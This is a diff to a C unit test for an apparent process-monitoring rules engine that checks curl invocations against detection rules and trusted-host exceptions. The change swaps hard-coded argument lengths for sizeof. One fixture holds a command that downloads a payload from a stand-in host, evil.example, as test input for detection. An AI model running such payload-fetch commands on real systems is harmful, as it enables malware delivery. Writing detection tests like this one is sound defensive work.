@@ -217,13 +217,13 @@ static void test_exceptions(void **state)
 
 	vg_rules_eval(rs, ev, pt, collect, &s);
 	assert_int_equal(s.n, 1);
-	vg_proc_set_argv(curl, "curl\0http://mirror.example/x", 29);
+	vg_proc_set_argv(curl, "curl\0http://mirror.example/x", sizeof("curl\0http://mirror.example/x"));
 	vg_rules_eval(rs, ev, pt, collect, &s);
 	assert_int_equal(s.n, 1); /* the appended value excepts it */
-	vg_proc_set_argv(curl, "curl\0http://trusted.example/x", 30);
+	vg_proc_set_argv(curl, "curl\0http://trusted.example/x", sizeof("curl\0http://trusted.example/x"));
 	vg_rules_eval(rs, ev, pt, collect, &s);
 	assert_int_equal(s.n, 1);
-	vg_proc_set_argv(curl, "curl\0http://other.example/x", 28);
+	vg_proc_set_argv(curl, "curl\0http://other.example/x", sizeof("curl\0http://other.example/x"));
 	vg_rules_eval(rs, ev, pt, collect, &s);
 	assert_int_equal(s.n, 2);
 	vg_proc_set_str(&curl->cwd, "/srv", 4);
@@ -234,7 +234,7 @@ static void test_exceptions(void **state)
 	vg_rules_eval(rs, ev, pt, collect, &s);
 	assert_int_equal(s.n, 2);
 	snprintf(curl->comm, sizeof(curl->comm), "curl");
-	vg_proc_set_argv(curl, "curl\0-o\0/tmp/x\0http://evil.example/payload", 45);
+	vg_proc_set_argv(curl, "curl\0-o\0/tmp/x\0http://evil.example/payload", sizeof("curl\0-o\0/tmp/x\0http://evil.example/payload"));
 	vg_ruleset_free(rs);
 }
 
